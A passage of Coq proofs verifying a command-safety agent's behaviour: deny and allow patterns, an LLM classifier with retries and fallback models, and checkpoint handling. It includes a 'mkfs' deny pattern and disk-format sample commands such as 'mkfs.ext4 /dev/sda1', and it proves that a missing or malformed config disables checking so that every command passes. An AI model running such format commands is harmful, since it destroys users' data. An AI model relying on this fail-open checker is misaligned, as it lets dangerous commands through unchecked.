    text, whatever makes it fail ([JSON_parse_Unmodelled],
    [JSON_parse_rejects]). *)
Theorem config_fallback configfilepath ollamaHost fs new_Ollama :
  fs !! configfilepath = None
  \/ (exists text error, fs !! configfilepath = Some text
                         /\ JSON_parse text = Throw error) ->
  exists this,
    SecAgent.constructor configfilepath ollamaHost fs new_Ollama = Normal this
    /\ secagentconfig this
       = JObj [(str "ENABLE_SECAGENT", JBool false);
               (str "SECURITY_POLICY", JStr (str "Only 'ls' command is safe"))]
    /\ forall toUpperCase race command,
         checkCommandSafety toUpperCase race this command = ([], Normal true).
Proof.
  intros Hfile. eexists. split_and!.
  - by apply constructor_fallback.
  - done.
  - intros toUpperCase race command.
    by apply (check_disabled _ _ _ _ (Some (JBool false))).
Qed.

(** * The statements at work *)

(** C1 at work: a device format, with a classifier that would answer SAFE. *)
Lemma deny_pattern_always_unsafe_witness :
  get (secagentconfig (Samples.agent true false true [str "mistral"]))
      (str "ENABLE_SECAGENT") = Normal (Some (JBool true))
  /\ In (lit "mkfs") unsafe_patterns
  /\ test (lit "mkfs") (str "mkfs.ext4 /dev/sda1") = true
  /\ (checkCommandSafety Samples.upper_ascii (Samples.race_third (str "SAFE"))
        (Samples.agent true false true [str "mistral"])
        (str "mkfs.ext4 /dev/sda1")).2 = Normal false.
Proof.
  split_and!; [reflexivity | vm_compute; tauto | by vm_compute |].
  apply (deny_pattern_always_unsafe _ _ _ _ (lit "mkfs"));
    [reflexivity | vm_compute; tauto | by vm_compute].
Defined.

(** C2 as first stated fails: of two pending [ls] records the later one is
    left without a result, which goes to the earlier. *)
Lemma result_attached_to_latest_refuted :
  this_commands
    (setCommandResult (str "ls") (Some (Samples.exit_with 0 "a.txt"))
       Samples.two_ls) !! 1%nat
  = Some (Samples.pending "ls" "2025-01-01T00:00:02.000Z")
  /\ this_commands
       (setCommandResult (str "ls") (Some (Samples.exit_with 0 "a.txt"))
          Samples.two_ls) !! 0%nat
     = Some (Samples.completed "ls" "2025-01-01T00:00:01.000Z"
               (Samples.exit_with 0 "a.txt")).
Proof. split; by vm_compute. Qed.

(** C2, as amended, at work on the same state. *)
Lemma result_attached_to_first_match_witness :
  this_commands Samples.two_ls !! 0%nat
  = Some (Samples.pending "ls" "2025-01-01T00:00:01.000Z")
  /\ this_commands
       (setCommandResult (str "ls") (Some (Samples.exit_with 0 "a.txt"))
          Samples.two_ls) !! 0%nat
     = Some (set_result (Some (Samples.exit_with 0 "a.txt"))
               (Samples.pending "ls" "2025-01-01T00:00:01.000Z"))
  /\ this_commands
       (setCommandResult (str "ls") (Some (Samples.exit_with 0 "a.txt"))
          Samples.two_ls) !! 1%nat
     = Some (Samples.pending "ls" "2025-01-01T00:00:02.000Z").
Proof.
  split; [reflexivity|].
  destruct (result_attached_to_first_match Samples.two_ls (str "ls")
              (Some (Samples.exit_with 0 "a.txt")) 0%nat
              (Samples.pending "ls" "2025-01-01T00:00:01.000Z"))
    as (Hfirst & Hlater & _);
    [reflexivity | reflexivity | intros j c' Hj; lia | ].
  split; [exact Hfirst|].
  apply (Hlater 1%nat); [lia | reflexivity | reflexivity].
Defined.

(** C3 as first stated fails: a second [setCommandResult] for the same text
    replaces the result of a completed record. *)
Lemma completed_record_overwritten :
  this_commands Samples.completed_ls !! 0%nat
  = Some (Samples.completed "ls" "2025-01-01T00:00:01.000Z"
            (Samples.exit_with 0 "a.txt"))
  /\ this_commands
       (run [SetCommandResult (str "ls") (Some (Samples.exit_with 1 "denied"))]
            Samples.completed_ls) !! 0%nat
     = Some (Samples.completed "ls" "2025-01-01T00:00:01.000Z"
               (Samples.exit_with 1 "denied"))
  /\ Samples.exit_with 1 "denied" <> Samples.exit_with 0 "a.txt".
Proof. split_and!; [by vm_compute..|]. by intros [=]. Qed.

(** C3, as amended, at work: a later command is added and completed, and
    the first command is then given another result. *)
Lemma completed_record_stability_witness :
  this_commands Samples.completed_ls !! 0%nat
  = Some (Samples.completed "ls" "2025-01-01T00:00:01.000Z"
            (Samples.exit_with 0 "a.txt"))
  /\ is_Some (result (Samples.completed "ls" "2025-01-01T00:00:01.000Z"
                        (Samples.exit_with 0 "a.txt")))
  /\ exists c',
       this_commands
         (run [AddCommand (str "pwd") (str "2025-01-01T00:00:05.000Z");
               SetCommandResult (str "pwd")
                 (Some (Samples.exit_with 0 "/home/deploy"))]
              Samples.completed_ls) !! 0%nat = Some c'
       /\ command c' = str "ls"
       /\ executedAt c' = str "2025-01-01T00:00:01.000Z"
       /\ ((Forall (fun op => forall r, op <> SetCommandResult (str "ls") r)
              [AddCommand (str "pwd") (str "2025-01-01T00:00:05.000Z");
               SetCommandResult (str "pwd")
                 (Some (Samples.exit_with 0 "/home/deploy"))]
            \/ exists j c0, (j < 0)%nat
                 /\ this_commands Samples.completed_ls !! j = Some c0
                 /\ command c0 = str "ls")
           -> c' = Samples.completed "ls" "2025-01-01T00:00:01.000Z"
                     (Samples.exit_with 0 "a.txt"))
       /\ this_commands
            (setCommandResult (str "ls")
               (Some (Samples.exit_with 1 "denied"))
               (run [AddCommand (str "pwd") (str "2025-01-01T00:00:05.000Z");
                     SetCommandResult (str "pwd")
                       (Some (Samples.exit_with 0 "/home/deploy"))]
                    Samples.completed_ls)) !! 0%nat
          = Some (Samples.completed "ls" "2025-01-01T00:00:01.000Z"
                    (Samples.exit_with 1 "denied")).
Proof.
  split; [reflexivity|]. split; [by eexists|].
  destruct (completed_record_stability
              [AddCommand (str "pwd") (str "2025-01-01T00:00:05.000Z");
               SetCommandResult (str "pwd")
                 (Some (Samples.exit_with 0 "/home/deploy"))]
              Samples.completed_ls 0%nat
              (Samples.completed "ls" "2025-01-01T00:00:01.000Z"
                 (Samples.exit_with 0 "a.txt")))
    as (c' & Hc' & Hcmd & Hat & Hsame & Hover);
    [reflexivity | by eexists | ].
  exists c'. split_and!; [exact Hc' | exact Hcmd | exact Hat | exact Hsame | ].
  apply (Hover ltac:(intros j c0 Hj; lia)
           (Some (Samples.exit_with 1 "denied"))).
Defined.

(** C4 as first stated fails: [echo mkfs] matches the allow pattern for
    [echo] and is judged unsafe, the deny pattern [mkfs] matching too. *)
Lemma allow_match_judged_unsafe :
  (exists pattern, In pattern safe_commands
                   /\ test pattern (str "echo mkfs") = true)
  /\ (checkCommandSafety Samples.upper_ascii Samples.race_down
        (Samples.agent true true false []) (str "echo mkfs")).2
     = Normal false.
Proof.
  split; [|by vm_compute].
  exists (nth 2 safe_commands REmpty). split; [vm_compute; tauto|by vm_compute].
Qed.

(** C4, as amended, at work. *)
Lemma static_only_verdict_witness :
  get (secagentconfig (Samples.agent true true false []))
      (str "ENABLE_SECAGENT") = Normal (Some (JBool true))
  /\ get (secagentconfig (Samples.agent true true false []))
         (str "USE_STATIC_CHECKS_ONLY") = Normal (Some (JBool true))
  /\ (checkCommandSafety Samples.upper_ascii Samples.race_down
        (Samples.agent true true false []) (str "ls -la")).2 = Normal true
  /\ (checkCommandSafety Samples.upper_ascii Samples.race_down
        (Samples.agent true true false []) (str "find / -name x")).2
     = Normal false.
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  apply (static_only_verdict Samples.upper_ascii Samples.race_down
           (Samples.agent true true false []) (str "pwd"));
    reflexivity.
Defined.

(** C5 at work: a device format passes a disabled agent unchecked. *)
Lemma disabled_agent_is_safe_witness :
  get (secagentconfig (Samples.agent false false true [str "mistral"]))
      (str "ENABLE_SECAGENT") = Normal (Some (JBool false))
  /\ checkCommandSafety Samples.upper_ascii Samples.race_down
       (Samples.agent false false true [str "mistral"]) (str "mkfs /dev/sda")
     = ([], Normal true).
Proof.
  split; [reflexivity|].
  apply (disabled_agent_is_safe Samples.upper_ascii Samples.race_down
           (Samples.agent false false true [str "mistral"])
           (str "mkfs /dev/sda")).
  reflexivity.
Defined.


(** C7 at work: a connection, a completed and a pending command. *)
Lemma checkpoint_round_trip_witness :
  wf_checkpoint Samples.checkpoint
  /\ loadCheckpoint (str "session_checkpoint.json")
       (saveCheckpoint (str "session_checkpoint.json") Samples.checkpoint
          true ∅).2
     = Normal (checkpoint_to_json Samples.checkpoint).
Proof.
  assert (wf_checkpoint Samples.checkpoint) as Hwf.
  { split; [reflexivity|]. repeat constructor. }
  split; [exact Hwf|].
  apply (checkpoint_round_trip (str "session_checkpoint.json")
           Samples.checkpoint ∅ Hwf).
Defined.

(** C8 as first stated fails: restoring a checkpoint without connection
    metadata leaves the prior metadata in place. *)
Lemma restore_keeps_prior_connection :
  connectionInfo Samples.empty_checkpoint = None
  /\ this_connectionInfo
       (restoreFromCheckpoint Samples.empty_checkpoint Samples.two_ls)
     = Some Samples.connection.
Proof. by split. Qed.

(** C9 as first stated fails: the fallback policy text is not the one
    stated. *)
Lemma fallback_policy_text :
  (secagentconfig <$>
     match SecAgent.constructor (str "secagentconfig.json")
             (str "http://localhost:11434") ∅ None with
     | Normal this => Some this
     | _ => None
     end)
  = Some (JObj [(str "ENABLE_SECAGENT", JBool false);
                (str "SECURITY_POLICY",
                 JStr (str "Only 'ls' command is safe"))])
  /\ str "Only 'ls' command is safe" <> str "only listing is safe".
Proof. split; [by vm_compute|]. by intros [=]. Qed.

(** C9, as amended, at work: a configuration file of three opening
    brackets. *)
Lemma config_fallback_witness :
  JSON_parse (str "[[[") = Throw SyntaxError
  /\ exists this,
       SecAgent.constructor (str "secagentconfig.json")
         (str "http://localhost:11434")
         {[ str "secagentconfig.json" := str "[[[" ]} None
       = Normal this
       /\ secagentconfig this
          = JObj [(str "ENABLE_SECAGENT", JBool false);
                  (str "SECURITY_POLICY",
                   JStr (str "Only 'ls' command is safe"))]
       /\ forall toUpperCase race command,
            checkCommandSafety toUpperCase race this command
            = ([], Normal true).
Proof.
  assert (JSON_parse (str "[[[") = Throw SyntaxError)
    as Hparse by (by vm_compute).
  split; [exact Hparse|].
  apply (config_fallback (str "secagentconfig.json")
           (str "http://localhost:11434")
           {[ str "secagentconfig.json" := str "[[[" ]}
           None).
  right. exists (str "[[["), SyntaxError.
  split; [|exact Hparse]. by vm_compute.
Defined.

(** * More on the security agent *)

#[local] Arguments getAvailableModel : simpl never.

Section AgentPaths.

Import Trace.

Variable toUpperCase : jsstring -> jsstring.
Variable race : nat -> jsstring -> option json -> jsstring -> race_outcome.

Implicit Types (this : secagent) (command : jsstring).

Lemma is_true_cases (flag : option json) :
  flag = Some (JBool true) \/ flag <> Some (JBool true).
Proof. destruct flag as [[|[|]| | | |]|]; (by left) || (by right). Qed.

Lemma is_true_false flag : flag <> Some (JBool true) -> is_true flag = false.
Proof. by destruct flag as [[|[|]| | | |]|]. Qed.

(** X1.  The comparison with [true] is strict: a flag that is absent, or holds
    anything but the boolean [true], leaves the agent disabled. *)
Theorem non_true_flag_disables this command flag :
  get (secagentconfig this) (str "ENABLE_SECAGENT") = Normal flag ->
  flag <> Some (JBool true) ->
  checkCommandSafety toUpperCase race this command = ([], Normal true).
Proof.
  intros Hget Hflag.
  by apply (check_disabled _ _ _ _ flag), is_true_false.
Qed.

(** The path taken once the agent is enabled and no deny pattern matches. *)
Lemma check_enabled_allowed this command :
  get (secagentconfig this) (str "ENABLE_SECAGENT")
    = Normal (Some (JBool true)) ->
  isObviouslyUnsafe command = false ->
  exists static_only use_llm,
    get (secagentconfig this) (str "USE_STATIC_CHECKS_ONLY")
      = Normal static_only
    /\ get (secagentconfig this) (str "USE_LOCAL_LLM") = Normal use_llm
    /\ checkCommandSafety toUpperCase race this command
       = if is_true static_only || negb (is_true use_llm)
            || (length (availableModels this) =? 0)%nat
         then ([DenyCheck command; AllowCheck command],
               Normal (isStaticallySafe command))
         else let '(t, r) := retry_loop toUpperCase race this command in
              (DenyCheck command :: t, r).
Proof.
  intros Hen Hdeny.
  destruct (get_total _ _ _ (str "USE_STATIC_CHECKS_ONLY") Hen) as [so Hso].
  destruct (get_total _ _ _ (str "USE_LOCAL_LLM") Hen) as [llm Hllm].
  exists so, llm. split_and!; [done..|].
  unfold checkCommandSafety. rewrite Hen. cbn. rewrite Hdeny, Hso. cbn.
  destruct (is_true so); [done|]. rewrite Hllm. cbn.
  destruct (is_true llm); [|done]. cbn.
  destruct (length (availableModels this) =? 0)%nat; [done|].
  by destruct (retry_loop _ _ _ _).
Qed.

(** X2.  Without a classifier to ask (static checks only, the local model
    switched off, or no model listed) the verdict is the allow patterns'
    and no request is made. *)
Theorem static_verdict_without_classifier this command static_only use_llm :
  get (secagentconfig this) (str "ENABLE_SECAGENT")
    = Normal (Some (JBool true)) ->
  isObviouslyUnsafe command = false ->
  get (secagentconfig this) (str "USE_STATIC_CHECKS_ONLY")
    = Normal static_only ->
  get (secagentconfig this) (str "USE_LOCAL_LLM") = Normal use_llm ->
  static_only = Some (JBool true) \/ use_llm <> Some (JBool true)
    \/ availableModels this = [] ->
  checkCommandSafety toUpperCase race this command
  = ([DenyCheck command; AllowCheck command],
     Normal (isStaticallySafe command)).
Proof.
  intros Hen Hdeny Hso Hllm Hcase.
  destruct (check_enabled_allowed this command Hen Hdeny)
    as (so & llm & Hso' & Hllm' & ->).
  assert (so = static_only) as -> by congruence.
  assert (llm = use_llm) as -> by congruence.
  destruct Hcase as [->|[Hne| ->]]; [done| |].
  - by rewrite (is_true_false _ Hne), orb_true_r.
  - by rewrite !orb_true_r.
Qed.

(** The loop of attempts, attempt by attempt. *)
Lemma retry_loop_unfold this command policy :
  get (secagentconfig this) (str "SECURITY_POLICY") = Normal policy ->
  let model := getAvailableModel this in
  let verdict response :=
    Normal (negb (includes (toUpperCase (trim response)) (str "UNSAFE"))) in
  retry_loop toUpperCase race this command
  = if prompt_holds policy then
      match race 1%nat model policy command with
      | Fulfilled (Some r1) => ([Generate 1 model], verdict r1)
      | _ =>
        match race 2%nat model policy command with
        | Fulfilled (Some r2) =>
            ([Generate 1 model; Delay RETRY_DELAY_MS; Generate 2 model],
             verdict r2)
        | _ =>
          match race 3%nat model policy command with
          | Fulfilled (Some r3) =>
              ([Generate 1 model; Delay RETRY_DELAY_MS;
                Generate 2 model; Delay RETRY_DELAY_MS; Generate 3 model],
               verdict r3)
          | _ =>
              ([Generate 1 model; Delay RETRY_DELAY_MS;
                Generate 2 model; Delay RETRY_DELAY_MS; Generate 3 model;
                AllowCheck command],
               Normal (isStaticallySafe command))
          end
        end
      end
    else
      ([Delay RETRY_DELAY_MS; Delay RETRY_DELAY_MS; AllowCheck command],
       Normal (isStaticallySafe command)).
Proof.
  intros Hpolicy. unfold retry_loop, MAX_RETRIES, attempt_body.
  rewrite Hpolicy. cbn.
  destruct (prompt_holds policy); cbn; [|done].
  destruct (race 1%nat _ _ _) as [[r1|]|]; [done|..];
    (destruct (race 2%nat _ _ _) as [[r2|]|]; [done|..]);
    (destruct (race 3%nat _ _ _) as [[r3|]|]; [done|..]); reflexivity.
Qed.

(** X3.  On the classifier path, with a policy value the prompt can hold,
    the first attempt that yields a response decides: the verdict is unsafe
    exactly when the trimmed, upper-cased response contains UNSAFE.  The
    allow patterns are not consulted, the attempts made are 1 to [k], and a
    pause precedes each but the first.  With a policy value whose conversion
    to a string throws, the back end is not asked, whatever it would
    answer: the allow patterns decide. *)
Theorem classifier_answer_decides this command static_only policy k response :
  get (secagentconfig this) (str "ENABLE_SECAGENT")
    = Normal (Some (JBool true)) ->
  isObviouslyUnsafe command = false ->
  get (secagentconfig this) (str "USE_STATIC_CHECKS_ONLY")
    = Normal static_only ->
  static_only <> Some (JBool true) ->
  get (secagentconfig this) (str "USE_LOCAL_LLM")
    = Normal (Some (JBool true)) ->
  availableModels this <> [] ->
  get (secagentconfig this) (str "SECURITY_POLICY") = Normal policy ->
  (1 <= k <= MAX_RETRIES)%nat ->
  (forall attempt, (1 <= attempt < k)%nat ->
     failed (race attempt (getAvailableModel this) policy command)) ->
  race k (getAvailableModel this) policy command
    = Fulfilled (Some response) ->
  if prompt_holds policy then
    (checkCommandSafety toUpperCase race this command).2
      = Normal (negb (includes (toUpperCase (trim response)) (str "UNSAFE")))
    /\ allow_checks (checkCommandSafety toUpperCase race this command).1 = []
    /\ requests (checkCommandSafety toUpperCase race this command).1
       = map (fun attempt => (attempt, getAvailableModel this)) (seq 1 k)
    /\ waits (checkCommandSafety toUpperCase race this command).1
       = repeat RETRY_DELAY_MS (k - 1)
  else
    (checkCommandSafety toUpperCase race this command).2
      = Normal (isStaticallySafe command)
    /\ allow_checks (checkCommandSafety toUpperCase race this command).1
       = [command]
    /\ requests (checkCommandSafety toUpperCase race this command).1 = [].
Proof.
  intros Hen Hdeny Hso Hsof Hllm Hmodels Hpolicy Hk Hfail Hk_ok.
  destruct (check_enabled_allowed this command Hen Hdeny)
    as (so & llm & Hso' & Hllm' & ->).
  assert (so = static_only) as -> by congruence.
  assert (llm = Some (JBool true)) as -> by congruence.
  rewrite (is_true_false _ Hsof). cbn [is_true negb orb].
  destruct (availableModels this) as [|m ms]; [done|]. cbn [length Nat.eqb].
  rewrite (retry_loop_unfold this command policy Hpolicy). cbv zeta.
  destruct (prompt_holds policy); [|done].
  unfold MAX_RETRIES in Hk.
  assert (k = 1 \/ k = 2 \/ k = 3)%nat as [->|[->| ->]] by lia.
  - by rewrite Hk_ok.
  - pose proof (Hfail 1%nat ltac:(lia)) as H1.
    destruct (race 1%nat _ _ _) as [[r1|]|]; [done|..]; by rewrite Hk_ok.
  - pose proof (Hfail 1%nat ltac:(lia)) as H1.
    pose proof (Hfail 2%nat ltac:(lia)) as H2.
    destruct (race 1%nat _ _ _) as [[r1|]|]; [done|..];
      (destruct (race 2%nat _ _ _) as [[r2|]|]; [done|..]);
      by rewrite Hk_ok.
Qed.

(** X4.  Whatever the configuration and the back end, an evaluation makes at
    most three requests, numbered from 1 in order and all to the one model
    [getAvailableModel] names, with one pause of a second between each two
    requests in a row, none before the first request and none after the
    last.  The one other record is that of a policy value whose conversion
    to a string throws: each attempt then fails before its request, and the
    evaluation pauses twice without asking. *)
Theorem classifier_requests_bounded this command :
  (exists count,
     (count <= MAX_RETRIES)%nat
     /\ classifier_events
          (checkCommandSafety toUpperCase race this command).1
        = schedule (getAvailableModel this) 1 count)
  \/ (classifier_events (checkCommandSafety toUpperCase race this command).1
      = [Delay RETRY_DELAY_MS; Delay RETRY_DELAY_MS]
      /\ exists policy,
           get (secagentconfig this) (str "SECURITY_POLICY") = Normal policy
           /\ prompt_holds policy = false).
Proof.
  assert (forall t : list event,
            (exists count,
               (count <= 3)%nat
               /\ classifier_events t
                  = schedule (getAvailableModel this) 1 count) ->
            (exists count,
               (count <= MAX_RETRIES)%nat
               /\ classifier_events t
                  = schedule (getAvailableModel this) 1 count)
            \/ (classifier_events t
                = [Delay RETRY_DELAY_MS; Delay RETRY_DELAY_MS]
                /\ exists policy,
                     get (secagentconfig this) (str "SECURITY_POLICY")
                       = Normal policy
                     /\ prompt_holds policy = false))
    as Hshape by (by left).
  assert (forall count t,
            (count <= 3)%nat ->
            classifier_events t = schedule (getAvailableModel this) 1 count ->
            exists count,
              (count <= 3)%nat
              /\ classifier_events t
                 = schedule (getAvailableModel this) 1 count)
    as Hcount by eauto.
  destruct (get (secagentconfig this) (str "ENABLE_SECAGENT"))
    as [enabled| |] eqn:Hen;
    [|unfold checkCommandSafety; rewrite Hen; apply Hshape;
      by apply (Hcount 0%nat); [lia|]..].
  destruct (is_true_cases enabled) as [->|Hoff].
  2:{ rewrite (check_disabled _ _ this command enabled Hen
               (is_true_false _ Hoff)).
      apply Hshape. by apply (Hcount 0%nat); [lia|]. }
  destruct (isObviouslyUnsafe command) eqn:Hdeny.
  { rewrite (check_enabled_deny _ _ this command Hen Hdeny).
    apply Hshape. by apply (Hcount 0%nat); [lia|]. }
  destruct (check_enabled_allowed this command Hen Hdeny)
    as (so & llm & Hso & Hllm & ->).
  destruct (_ || _ || _); [apply Hshape; by apply (Hcount 0%nat); [lia|]|].
  destruct (get_total _ _ _ (str "SECURITY_POLICY") Hen) as [policy Hpolicy].
  rewrite (retry_loop_unfold this command policy Hpolicy). cbv zeta.
  destruct (prompt_holds policy) eqn:Hprompt; [|right; by eauto].
  apply Hshape.
  destruct (race 1%nat _ _ _) as [[r1|]|];
    [by apply (Hcount 1%nat); [lia|]|..];
    (destruct (race 2%nat _ _ _) as [[r2|]|];
       [by apply (Hcount 2%nat); [lia|]|..]);
    (destruct (race 3%nat _ _ _) as [[r3|]|];
       by apply (Hcount 3%nat); [lia|]).
Qed.

Lemma get_null key : get JNull key = Throw TypeError.
Proof. done. Qed.

Lemma get_not_null config key :
  config <> JNull -> exists v, get config key = Normal v.
Proof. destruct config; unfold get; intros; try done; eauto. Qed.

(** X5.  An evaluation throws in one case only: the configuration is [null]
    (the configuration file held the text [null]); the first property read
    then throws a [TypeError], before any check.  With any other
    configuration the evaluation completes with a verdict, whatever the
    back end does. *)
Theorem evaluation_throws_only_on_null_config this command :
  (secagentconfig this = JNull ->
   checkCommandSafety toUpperCase race this command = ([], Throw TypeError))
  /\ (secagentconfig this <> JNull ->
      exists verdict,
        (checkCommandSafety toUpperCase race this command).2
        = Normal verdict).
Proof.
  split.
  - intros Hnull. unfold checkCommandSafety. by rewrite Hnull, get_null.
  - intros Hconfig.
    destruct (get_not_null _ (str "ENABLE_SECAGENT") Hconfig)
      as [enabled Hen].
    destruct (is_true_cases enabled) as [->|Hoff].
    2:{ rewrite (check_disabled _ _ this command enabled Hen
               (is_true_false _ Hoff)).
        by exists true. }
    destruct (isObviouslyUnsafe command) eqn:Hdeny.
    { rewrite (check_enabled_deny _ _ this command Hen Hdeny).
      by exists false. }
    destruct (check_enabled_allowed this command Hen Hdeny)
      as (so & llm & Hso & Hllm & ->).
    destruct (_ || _ || _); [by eexists|].
    destruct (get_total _ _ _ (str "SECURITY_POLICY") Hen)
      as [policy Hpolicy].
    destruct (retry_loop_completes_any toUpperCase race this command policy
                Hpolicy) as [b Hb].
    exists b. by destruct (retry_loop _ _ _ _).
Qed.

End AgentPaths.

(** A policy that has no text: each of the three attempts fails while the
    prompt is built, the back end is never asked, and the allow patterns
    answer. *)
Lemma opaque_policy_record :
  checkCommandSafety Samples.upper_ascii (Samples.race_third (str "UNSAFE"))
    Samples.opaque_policy_agent (str "ls -la")
  = ([DenyCheck (str "ls -la"); Delay RETRY_DELAY_MS; Delay RETRY_DELAY_MS;
      AllowCheck (str "ls -la")],
     Normal true).
Proof. by vm_compute. Qed.

(** ** Before the models are listed *)

(** X6.  The constructor leaves the list of available models empty, and
    [initializeAsync] leaves it empty when listing fails: until a listing
    succeeds no evaluation makes a classifier request, whatever the
    configuration file says. *)
Theorem no_request_before_models_are_listed
    toUpperCase race configfilepath ollamaHost fs new_Ollama this command :
  SecAgent.constructor configfilepath ollamaHost fs new_Ollama = Normal this ->
  availableModels this = []
  /\ Trace.requests (checkCommandSafety toUpperCase race this command).1 = []
  /\ Trace.requests
       (checkCommandSafety toUpperCase race (initializeAsync None this)
          command).1 = [].
Proof.
  intros Hnew.
  assert (availableModels this = []) as Hmodels.
  { unfold SecAgent.constructor in Hnew.
    destruct (try_catch _ _) as [config| |]; [|done..].
    cbn in Hnew. by injection Hnew as <-. }
  assert (forall agent, availableModels agent = [] ->
            Trace.requests
              (checkCommandSafety toUpperCase race agent command).1 = [])
    as Hnone.
  { intros agent Hagent.
    destruct (get (secagentconfig agent) (str "ENABLE_SECAGENT"))
      as [enabled| |] eqn:Hen;
      [|by unfold checkCommandSafety; rewrite Hen..].
    destruct (is_true_cases enabled) as [->|Hoff].
    2:{ by rewrite (check_disabled _ _ agent command enabled Hen
                      (is_true_false _ Hoff)). }
    destruct (isObviouslyUnsafe command) eqn:Hdeny.
    { by rewrite (check_enabled_deny _ _ agent command Hen Hdeny). }
    destruct (check_enabled_allowed toUpperCase race agent command Hen Hdeny)
      as (so & llm & Hso & Hllm & ->).
    rewrite Hagent. cbn [length Nat.eqb]. by rewrite !orb_true_r. }
  split_and!; [done|by apply Hnone|by apply Hnone].
Qed.

(** ** The model asked *)

Lemma getAvailableModel_find this :
  getAvailableModel this
  = default (str "llama2")
      (find (fun model => bool_decide (model ∈ availableModels this))
            FALLBACK_MODELS).
Proof. done. Qed.

(** X7.  The model named is always one of the four candidates.  When a
    candidate is among the available models the first such candidate, in
    the order of the list, is named; when none is, [llama2] is named
    although it is not available. *)
Theorem getAvailableModel_choice (this : secagent) :
  In (getAvailableModel this) FALLBACK_MODELS
  /\ ((exists model, In model FALLBACK_MODELS
                     /\ In model (availableModels this)) ->
      In (getAvailableModel this) (availableModels this)
      /\ exists earlier later,
           FALLBACK_MODELS = earlier ++ getAvailableModel this :: later
           /\ forall model, In model earlier ->
                            ~ In model (availableModels this))
  /\ ((forall model, In model FALLBACK_MODELS ->
                     ~ In model (availableModels this)) ->
      getAvailableModel this = str "llama2").
Proof.
  rewrite getAvailableModel_find.
  set (available := fun model => bool_decide (model ∈ availableModels this)).
  assert (forall m, available m = true <-> In m (availableModels this)) as Hav.
  { intros m. unfold available.
    by rewrite bool_decide_eq_true, list_elem_of_In. }
  assert (forall m, available m = false <-> ~ In m (availableModels this))
    as Hnav.
  { intros m. rewrite <- Hav. by destruct (available m). }
  unfold FALLBACK_MODELS. cbn [find].
  destruct (available (str "llama2")) eqn:H1.
  { split_and!; [by left| |done]. intros _. split; [by apply Hav|].
    exists [], [str "llama2-uncensored"; str "mistral"; str "gemma"].
    by split. }
  destruct (available (str "llama2-uncensored")) eqn:H2.
  { split_and!; [right; by left| |].
    - intros _. split; [by apply Hav|].
      exists [str "llama2"], [str "mistral"; str "gemma"]. split; [done|].
      intros m [<-|[]]. by apply Hnav.
    - intros Hnone. destruct (Hnone (str "llama2-uncensored")).
      + right; by left.
      + by apply Hav. }
  destruct (available (str "mistral")) eqn:H3.
  { split_and!; [do 2 right; by left| |].
    - intros _. split; [by apply Hav|].
      exists [str "llama2"; str "llama2-uncensored"], [str "gemma"].
      split; [done|]. intros m [<-|[<-|[]]]; by apply Hnav.
    - intros Hnone. destruct (Hnone (str "mistral")).
      + do 2 right; by left.
      + by apply Hav. }
  destruct (available (str "gemma")) eqn:H4.
  { split_and!; [do 3 right; by left| |].
    - intros _. split; [by apply Hav|].
      exists [str "llama2"; str "llama2-uncensored"; str "mistral"], [].
      split; [done|]. intros m [<-|[<-|[<-|[]]]]; by apply Hnav.
    - intros Hnone. destruct (Hnone (str "gemma")).
      + do 3 right; by left.
      + by apply Hav. }
  split_and!; [by left| |done].
  intros (m & Hin & Hm). apply Hav in Hm.
  destruct Hin as [<-|[<-|[<-|[<-|[]]]]]; congruence.
Qed.

(** * The pattern tables *)

Section RegExpFacts.

Implicit Types (s w a b : jsstring) (r : regex) (i j k : nat) (c d : code_unit).

Lemma drop_nth_error s i d :
  nth_error s i = Some d -> drop i s = d :: drop (S i) s.
Proof.
  revert i. induction s as [|c s IH]; intros [|i] H; cbn in *; try done.
  - by injection H as ->.
  - by apply IH.
Qed.

Lemma drop_nth_error_None s i : nth_error s i = None -> drop i s = [].
Proof.
  revert i. induction s as [|c s IH]; intros [|i] H; cbn in *; try done.
  by apply IH.
Qed.

Lemma eqb_sym_N c d : (c =? d) = (d =? c).
Proof. apply N.eqb_sym. Qed.

(** A sequence of pattern characters matches at [i] exactly when the text
    continues with those characters, and the match ends after them. *)
Lemma ends_chars s w i :
  ends s (cat (map RChar w)) i
  = if is_prefix w (drop i s) then [(i + length w)%nat] else [].
Proof.
  revert i. induction w as [|c w IH]; intros i.
  - cbn. by rewrite Nat.add_0_r.
  - cbn [map cat foldr ends]. fold (cat (map RChar w)).
    unfold step_char. destruct (nth_error s i) as [d|] eqn:Hd.
    + rewrite (drop_nth_error s i d Hd). cbn [is_prefix].
      destruct (c =? d); cbn [flat_map andb]; [|done].
      rewrite IH, app_nil_r. cbn [length].
      by rewrite Nat.add_succ_r.
    + by rewrite (drop_nth_error_None s i Hd).
Qed.

Lemma matches_at_chars s w i :
  matches_at (cat (map RChar w)) s i = is_prefix w (drop i s).
Proof. unfold matches_at. rewrite ends_chars. by destruct (is_prefix _ _). Qed.

Lemma existsb_matches_chars s w i n :
  (i + n = length s)%nat ->
  existsb (matches_at (cat (map RChar w)) s) (seq i (S n))
  = includes (drop i s) w.
Proof.
  revert i. induction n as [|n IH]; intros i Hi.
  - cbn [seq existsb]. rewrite matches_at_chars, orb_false_r.
    rewrite drop_ge by lia. cbn. by rewrite orb_false_r.
  - replace (seq i (S (S n))) with (i :: seq (S i) (S n)) by done.
    cbn [existsb]. rewrite matches_at_chars, IH by lia.
    destruct (nth_error s i) as [d|] eqn:Hd.
    + rewrite (drop_nth_error s i d Hd). done.
    + apply nth_error_None in Hd. lia.
Qed.

(** A pattern made of pattern characters only tests for a substring. *)
Lemma test_chars s w : test (cat (map RChar w)) s = includes s w.
Proof.
  unfold test. by rewrite (existsb_matches_chars s w 0 (length s)).
Qed.

Lemma in_ends_seq s r1 r2 i k j :
  In k (ends s r1 i) -> In j (ends s r2 k) -> In j (ends s (RSeq r1 r2) i).
Proof. intros Hk Hj. cbn. apply in_flat_map. eauto. Qed.

Lemma in_ends_seq_inv s r1 r2 i j :
  In j (ends s (RSeq r1 r2) i) ->
  exists k, In k (ends s r1 i) /\ In j (ends s r2 k).
Proof. cbn. by intros ?%in_flat_map. Qed.

Lemma matches_at_true r s i :
  matches_at r s i = true <-> exists j, In j (ends s r i).
Proof.
  unfold matches_at. destruct (ends s r i) as [|j l]; split.
  - done.
  - by intros [? []].
  - intros _. exists j. by left.
  - done.
Qed.

Lemma test_true r s :
  test r s = true <-> exists i j, (i <= length s)%nat /\ In j (ends s r i).
Proof.
  unfold test. rewrite existsb_exists. split.
  - intros (i & Hi%in_seq & Hm%matches_at_true). destruct Hm as [j Hj].
    exists i, j. split; [lia|done].
  - intros (i & j & Hi & Hj). exists i. split.
